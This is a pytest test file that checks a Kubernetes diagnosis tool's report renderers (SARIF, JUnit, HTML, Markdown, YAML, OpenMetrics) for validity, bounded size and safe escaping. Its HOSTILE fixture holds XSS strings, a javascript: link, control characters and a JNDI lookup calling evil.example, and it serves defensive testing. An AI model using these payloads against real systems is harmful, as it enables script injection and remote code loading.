"""Every format: valid by the schema or parser of those who read it, safe whatever a cluster says, and bounded."""

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import jsonschema
import msgspec
import pytest
import xmlschema
import yaml
from markdown_it import MarkdownIt
from markdown_it.token import Token
from prometheus_client.openmetrics.parser import text_string_to_metric_families

from kubedx.findings import Coverage, Diagnosis, Evidence, EvidenceType, Explanation, FieldChange, Fix, Focus, Severity
from kubedx.kube import ClusterInfo, Gap, GapReason, Origin, Ref
from kubedx.report import FORMATS, RulePage, Style, render
from kubedx.report.chain import MOST_LINKS, chain
from kubedx.report.graph import draw
from report.conftest import NOW, image_incident, secret_incident

SCHEMAS = Path(__file__).parent / "schemas"
PAGES = {
    "secret-absent": RulePage(
        "secret-absent",
        "A pod names a Secret that does not exist.",
        "A pod names a Secret that does not exist.\n\n## How to fix it\n\nCreate it.",
        Severity.ERROR,
        ("Pod",),
        "https://docs.example.com/rules/secret-absent/",
    )
}
STYLE = Style("0.1.0", rules=PAGES)
HOSTILE = (
    "</title><script>alert(1)</script><img src=x onerror=alert(1)>\"'`]]>-->{{7*7}}{% x %}",
    "\x1b[31mred\x07\x00\x9b\u202egnp.exe\u200b\ud800\ufffe\uffff",
    "```\n# heading\n| a | b |\n[click](javascript:alert(1)) ![x](http://evil.example/x.png) @everyone #12 <!-- x -->\n- [ ] task\n---",
    "&lt;b&gt; &#0; %s ${jndi:ldap://evil.example/a} http://evil.example www.evil.example ~~~ $x^2$",
)


def hostile() -> Diagnosis:
    """A cluster in which everything that a stranger can write is an attack."""
    text = "\n".join(HOSTILE)
    ref = Ref("evil.example/v1<", f"Kind{text}", f"ns{text}", f"name{text}")
    piece = Evidence(id="e1", type=EvidenceType.LOG, ref=ref, path=f"container/{text}", value=text, reason=text)
    seed = secret_incident()
    root = msgspec.structs.replace(seed.root_cause, subject=ref, cause=ref, part=text, message=text, evidence=(piece,), observed=ref)
    said = Explanation(
        source=text, language=text, summary=text, steps=(text, f"{text}\nkubectl get {text}"), commands=(text,), citations=("e1",)
    )
    symptoms = tuple(msgspec.structs.replace(one, subject=ref, message=text) for one in seed.symptoms[:3])
    changed = tuple(msgspec.structs.replace(one, ref=ref, path=text, before=text, after=text, by=text) for one in seed.changed)
    incident = msgspec.structs.replace(
        seed,
        title=text,
        root_cause=root,
        symptoms=symptoms,
        entry_points=(ref,),
        affected=(ref,),
        changed=changed,
        rivals=tuple(msgspec.structs.replace(rival, root_cause=root, decide=text) for rival in seed.rivals),
        explanations=(said,),
    )
    return Diagnosis(
        cluster=ClusterInfo(Origin.LIVE, text, text),
        scanned_at=seed.changed[0].when,
        incidents=(incident,),
        results=(),
        coverage=Coverage(gaps=(Gap("v1", f"Kind{text}", f"ns{text}", "list", GapReason.TIMEOUT, text),)),
        errors=(text,),
    )


def many(count: int) -> Diagnosis:
    """A cluster on its worst day: each incident in a namespace of its own."""
    seed = image_incident()
    incidents = []
    for rank in range(1, count + 1):
        subject = Ref("apps/v1", "Deployment", f"team-{rank}", "cart")
        root = msgspec.structs.replace(seed.root_cause, subject=subject, code="image-pull-failed")
        incidents.append(msgspec.structs.replace(seed, id=f"{rank:016x}", rank=rank, root_cause=root))
    return Diagnosis(
        cluster=ClusterInfo(Origin.LIVE, "staging"), scanned_at=NOW, incidents=tuple(incidents), results=(), coverage=Coverage()
    )


@pytest.fixture
def diagnoses(outage: Diagnosis, healthy: Diagnosis, focus: Focus) -> list[Diagnosis]:
    return [outage, healthy, msgspec.structs.replace(healthy, focus=focus), hostile()]


@pytest.fixture(scope="module")
def sarif_schema() -> Any:
    return jsonschema.Draft4Validator(json.loads((SCHEMAS / "sarif-schema-2.1.0.json").read_text("utf-8")))


@pytest.mark.parametrize("name", FORMATS)
def test_no_format_lets_a_control_sequence_or_an_odd_letter_through(name: str, outage: Diagnosis) -> None:
    for diagnosis in (hostile(), outage):
        text = render(diagnosis, name, STYLE)
        assert not set(text) & set("\x00\x07\x1b\x9b\x7f\u202e\u200b\ufeff\ufffe\uffff\ud800")
        text.encode()
        assert text.endswith("\n")


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_diagnosis_gives_the_same_bytes(name: str, outage: Diagnosis) -> None:
    assert render(outage, name, STYLE) == render(outage, name, STYLE)


def test_yaml_is_the_json_document(diagnoses: list[Diagnosis]) -> None:
    for diagnosis in diagnoses:
        text = render(diagnosis, "yaml", STYLE)
        assert yaml.load(text, yaml.BaseLoader) is not None
        assert yaml.safe_load(text) == json.loads(render(diagnosis, "json", STYLE))


@pytest.mark.parametrize(
    "word", ["yes", "No", "null", "~", "1", "1.5", "1e3", "0x10", "2026-01-01", "-", "a: b", "a #b", "", " a", "a ", "=", "<<", "!x", "é"]
)
def test_yaml_takes_no_string_for_something_else(healthy: Diagnosis, word: str) -> None:
    told = msgspec.structs.replace(healthy, cluster=ClusterInfo(Origin.DUMP, word))
    assert yaml.safe_load(render(told, "yaml", STYLE))["cluster"]["name"] == word


def test_sarif_is_valid(diagnoses: list[Diagnosis], sarif_schema: Any) -> None:
    for diagnosis in diagnoses:
        document = json.loads(render(diagnosis, "sarif", STYLE))
        assert [error.message for error in sarif_schema.iter_errors(document)] == []


def test_sarif_tells_rules_places_and_identity(outage: Diagnosis) -> None:
    run = json.loads(render(outage, "sarif", STYLE))["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    assert [rule["id"] for rule in rules] == ["secret-absent", "image-pull-fails", "service-selects-nothing", "job-failed"]
    assert "## How to fix it" in rules[0]["help"]["markdown"]
    assert rules[0]["helpUri"] == "https://docs.example.com/rules/secret-absent/"
    first = run["results"][0]
    assert first["level"] == "error"
    assert rules[first["ruleIndex"]]["id"] == first["ruleId"]
    assert first["partialFingerprints"] == {"kubedxIncident/v1": "fedcba9876543210"}
    place = first["locations"][0]
    assert place["physicalLocation"]["artifactLocation"]["uri"] == "apis/apps/v1/namespaces/shop/deployments/cart"
    assert place["logicalLocations"][0]["fullyQualifiedName"] == "shop/Deployment/cart/container api"
    levels = [notice["level"] for notice in run["invocations"][0]["toolExecutionNotifications"]]
    assert levels == ["warning"] * 4 + ["error"]


def test_sarif_tells_who_suppressed_what_and_why(outage: Diagnosis) -> None:
    run = json.loads(render(outage, "sarif", STYLE))["runs"][0]
    told = [result for result in run["results"] if "suppressions" in result]
    assert [result["ruleId"] for result in told] == ["service-selects-nothing", "job-failed"]
    assert [run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] for result in told] == [result["ruleId"] for result in told]
    (by_baseline,), (by_annotation,) = (result["suppressions"] for result in told)
    assert by_baseline == {
        "kind": "external",
        "status": "accepted",
        "justification": "goes away with the migration",
        "properties": {"by": "baseline", "expires": "2026-12-31"},
    }
    assert (by_annotation["kind"], by_annotation["justification"]) == ("inSource", "is run by hand")


def test_sarif_tells_a_checked_fix_in_words(outage: Diagnosis) -> None:
    change = FieldChange("spec.replicas", "0", "2")
    fix = Fix(ref=outage.incidents[0].root_cause.subject, changes=(change,), patch="[]", command="kubectl -n shop patch …", checked=True)
    (first, *others) = outage.incidents
    told = msgspec.structs.replace(outage, incidents=(msgspec.structs.replace(first, fixes=(fix,)), *others))
    result = json.loads(render(told, "sarif", STYLE))["runs"][0]["results"][0]
    assert (
        "Fix, checked: Deployment shop/cart, spec.replicas: 0 → 2\n\n```sh\nkubectl -n shop patch …\n```" in result["message"]["markdown"]
    )
    assert "fixes" not in result


def test_junit_tells_what_is_suppressed_as_skipped(outage: Diagnosis) -> None:
    (case,) = (one for one in ET.fromstring(render(outage, "junit", STYLE)).iter("testcase") if one.get("classname") == "kubedx.job-failed")
    (skipped,) = case
    assert (case.get("name"), skipped.tag) == ("Job import", "skipped")
    assert skipped.get("message") == "suppressed by annotation: is run by hand"


def test_junit_is_valid(diagnoses: list[Diagnosis]) -> None:
    schema = xmlschema.XMLSchema(str(SCHEMAS / "junit-10.xsd"))
    for diagnosis in diagnoses:
        schema.validate(render(diagnosis, "junit", STYLE))


def test_junit_has_a_suite_for_each_namespace_and_a_healthy_cluster_passes(outage: Diagnosis, healthy: Diagnosis) -> None:
    schema = xmlschema.XMLSchema(str(SCHEMAS / "junit-10.xsd"))
    document: Any = schema.to_dict(render(outage, "junit", STYLE))
    suites = {suite["@name"]: suite for suite in document["testsuite"]}
    assert set(suites) == {"(cluster)", "default", "shop"}
    assert (suites["shop"]["@failures"], suites["shop"]["@errors"], suites["shop"]["@skipped"]) == ("1", "1", "3")
    failure = next(case for case in suites["shop"]["testcase"] if "failure" in case)
    assert failure["@classname"] == "kubedx.secret-absent"
    assert failure["@name"] == "Deployment cart, container api"
    calm: Any = schema.to_dict(render(healthy, "junit", STYLE))
    assert (calm["@tests"], calm["@failures"], calm["@errors"]) == ("1", "0", "0")


def families(text: str) -> dict[str, Any]:
    return {family.name: family for family in text_string_to_metric_families(text)}  # type: ignore[no-untyped-call]  # of a package without types


def test_openmetrics_can_be_parsed(diagnoses: list[Diagnosis]) -> None:
    for diagnosis in diagnoses:
        text = render(diagnosis, "openmetrics", STYLE)
        assert text.endswith("# EOF\n")
        assert families(text)["kubedx_coverage_complete"].samples[0].value in {0, 1}


def test_openmetrics_counts_incidents(outage: Diagnosis) -> None:
    told = families(render(outage, "openmetrics", STYLE))
    assert [(sample.labels, sample.value) for sample in told["kubedx_incidents"].samples] == [
        ({"severity": "critical", "code": "secret-absent", "namespace": "shop"}, 1),
        ({"severity": "error", "code": "image-pull-fails", "namespace": "default"}, 1),
    ]
    assert {sample.labels["severity"]: sample.value for sample in told["kubedx_severity_incidents"].samples} == {
        "critical": 1, "error": 1, "warning": 0, "info": 0,
    }  # fmt: skip


def test_openmetrics_bounds_its_series_and_loses_no_incident() -> None:
    samples = families(render(many(10_000), "openmetrics", STYLE))["kubedx_incidents"].samples
    assert len(samples) <= 1001
    assert sum(sample.value for sample in samples) == 10_000


def tokens(text: str) -> Iterator[Token]:
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text):
        yield token
        yield from token.children or ()


OURS = re.compile(r"<details><summary>[^<>]*</summary>|</details>")


def test_markdown_holds_no_markup_but_ours() -> None:
    text = render(hostile(), "markdown", STYLE)
    kinds = {token.type for token in tokens(text)}
    assert not kinds & {"image", "hr", "html_inline", "s_open"}
    for token in tokens(text):
        if token.type == "link_open":
            assert token.attrs["href"] == PAGES["secret-absent"].url
        if token.type == "html_block":
            assert OURS.sub("", token.content).strip() == ""
        if token.type == "heading_open":
            assert token.tag in {"h1", "h2"}
    outside = re.sub(r"(`+).*?\1", "", re.sub(r"(?ms)^ *(`{3,})[^\n]*\n.*?^ *\1$", "", text))
    outside = OURS.sub("", outside)
    assert not re.search(r"(?<!\w)@\w|#\d|(?<!\\)://evil", outside.replace("&#8203;", "\u200b"))


def test_markdown_links_rules_and_tells_the_story(outage: Diagnosis) -> None:
    text = render(outage, "markdown", STYLE)
    assert "rule [`secret-absent`](https://docs.example.com/rules/secret-absent/)" in text
    assert "- Pod shop/cart-3: is not ready (and 99 more such objects)" in text
    assert "<details><summary>localai/small says</summary>" in text
    assert "```sh\nkubectl -n default set image deployment/demo3 httddd=httpd\n```" in text


def test_markdown_fits_a_comment() -> None:
    text = render(many(10_000), "markdown", STYLE)
    assert len(text) < 65_536
    assert re.search(r"\n[\d]+ further incidents are left out here", text)


class Elements(HTMLParser):
    """Which elements and attributes a page has."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src", "xlink:href"}]


def test_html_holds_no_element_of_a_stranger_and_loads_nothing(outage: Diagnosis) -> None:
    for diagnosis in (hostile(), outage):
        page = Elements()
        page.feed(render(diagnosis, "html", STYLE))
        assert not page.tags & {"script", "img", "iframe", "object", "embed", "link", "base", "form", "b"}
        assert not {name for name in page.attributes if name.startswith("on") or name in {"style", "src"}}
        assert {address for address in page.addresses if not address.startswith("#")} <= {PAGES["secret-absent"].url}


def test_html_has_a_policy_that_allows_its_style_alone(outage: Diagnosis) -> None:
    text = render(outage, "html", STYLE)
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', text)
    assert policy
    assert policy[1].startswith("default-src 'none'; style-src 'sha256-")
    assert "unsafe" not in policy[1]


def test_html_is_bounded() -> None:
    text = render(many(10_000), "html", STYLE)
    assert text.count("<article") == 200
    assert "and 7800 more; -o json shows all" in text
    assert len(text) < 3_000_000


def test_html_sets_explanations_side_by_side(outage: Diagnosis) -> None:
    text = render(outage, "html", STYLE)
    assert '<div lang="zh">\n<h4>localai/small</h4>' in text
    assert "<h4>Playbook</h4>" in text


def test_sarif_and_junit_are_bounded(sarif_schema: Any) -> None:
    worst = many(5_010)
    run = json.loads(render(worst, "sarif", STYLE))["runs"][0]
    assert len(run["results"]) == 5000
    assert "10 further incidents" in run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]
    assert render(worst, "junit", STYLE).count("<failure") == 2001


def test_a_chain_tells_alike_symptoms_once_and_each_below_its_cause() -> None:
    links = chain(secret_incident().symptoms)
    assert [(link.symptom.id, link.depth, link.alike) for link in links] == [("s1", 0, 1), ("s2", 1, 1), ("s3", 0, 100)]


def test_a_chain_is_bounded() -> None:
    seed = secret_incident().symptoms[0]
    long = [msgspec.structs.replace(seed, id=f"s{number}", because=(f"s{number - 1}",) if number else ("root",)) for number in range(300)]
    assert len(chain(long)) == MOST_LINKS


def test_a_drawing_goes_from_the_object_to_change_to_the_users() -> None:
    drawing = draw(secret_incident())
    assert drawing
    assert [one.box.name for one in drawing.boxes] == ["shop/db", "shop/cart", "shop/cart", "shop/cart-3", "shop/web"]
    assert [one.y for one in drawing.boxes] == sorted(one.y for one in drawing.boxes)
    assert len(drawing.arrows) == 4
    assert drawing.told.startswith("Secret shop/db, then Deployment shop/cart, then ")
    assert draw(image_incident()) is None
